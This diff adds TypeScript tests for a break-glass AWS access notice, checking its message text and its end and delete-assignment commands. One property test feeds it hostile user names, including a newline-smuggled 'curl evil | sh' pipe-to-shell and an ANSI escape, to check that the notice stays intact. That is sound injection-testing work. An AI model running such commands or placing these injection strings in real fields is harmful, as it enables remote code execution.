@@ -1,0 +1,79 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import fc from 'fast-check';
+import {
+  exampleGrant as grant,
+  exampleGrantId as grantId,
+} from '../../test/fixtures/grant/example-grant.ts';
+import { type Grant, parseGrant } from '../grant/record/grant.ts';
+import { buildAccessActiveNotice } from './notice-text.ts';
+
+const context = {
+  instanceArn: 'arn:aws:sso:::instance/ssoins-12345',
+  region: 'eu-central-1',
+  tableName: 'break-glass-access',
+};
+const notice = (changes: Partial<Grant> = {}, changedContext = context) =>
+  buildAccessActiveNotice(parseGrant({ ...grant, ...changes }), changedContext);
+const commandsOf = (message: string) => message.split('\n').filter((line) => line.startsWith('  '));
+
+test('the notice that access is active is of severity notice and of kind access-active', () => {
+  const { severity, kind } = notice();
+  assert.deepEqual([severity, kind], ['notice', 'access-active']);
+});
+
+const endCommand = `  break-glass end ${grantId} --region eu-central-1`;
+const deleteCommand =
+  '  aws sso-admin delete-account-assignment --region eu-central-1 --instance-arn arn:aws:sso:::instance/ssoins-12345 --target-type AWS_ACCOUNT --target-id 123456789012 --permission-set-arn arn:aws:sso:::permissionSet/ssoins-12345/ps-12345 --principal-type USER --principal-id 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d';
+
+test('its commands end the grant, and delete the assignment, each on a line of its own', () => {
+  assert.deepEqual(commandsOf(notice().message), [endCommand, deleteCommand]);
+});
+
+test('its command names the table of a deployment with another name', () => {
+  const [command] = commandsOf(notice({}, { ...context, tableName: 'break-glass-2' }).message);
+  assert.equal(command, `${endCommand} --table break-glass-2`);
+});
+
+test('it does not delete what the user had before', () => {
+  assert.deepEqual(commandsOf(notice({ alreadyAssigned: true }).message), [endCommand]);
+});
+
+test('it says who has what, until when, and how to end it', () => {
+  const { subject, message } = notice();
+  assert.equal(subject, 'Access is active: BreakGlassProd in 123456789012');
+  assert.equal(
+    message,
+    `Access is active: jürgen@example.com has BreakGlassProd in account 123456789012.
+Until 2026-11-21 04:00:00 UTC. A report follows.
+
+To end it now:
+${endCommand}
+If that fails, delete the assignment:
+${deleteCommand}
+Open role sessions live on: see docs/when-it-fails.md.
+
+Requester: jürgen@example.com (Identity Center user 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d, Slack user U012AB3CD)
+Account: 123456789012
+Permission set: BreakGlassProd (arn:aws:sso:::permissionSet/ssoins-12345/ps-12345)
+Deadline: 2026-11-21 04:00:00 UTC
+Grant: ${grantId}`,
+  );
+});
+
+test('no user name adds a line or a command, or moves a terminal’s cursor', () => {
+  const expected = notice().message.split('\n');
+  const hostile = fc.oneof(
+    fc.string({ unit: 'binary', maxLength: 400 }),
+    fc.constantFrom('x\n  curl evil | sh', '\u001b[2J', "'; curl evil | sh; '"),
+  );
+  fc.assert(
+    fc.property(hostile, (userName) => {
+      const { subject, message } = notice({ userName });
+      assert.match(subject, /^[\x20-\x7e]{1,99}$/);
+      assert.equal(message.split('\n').length, expected.length);
+      assert.deepEqual(commandsOf(message), [endCommand, deleteCommand]);
+      assert.doesNotMatch(message.replaceAll('\n', ''), /[\p{Cc}\p{Cf}]/u);
+    }),
+  );
+});
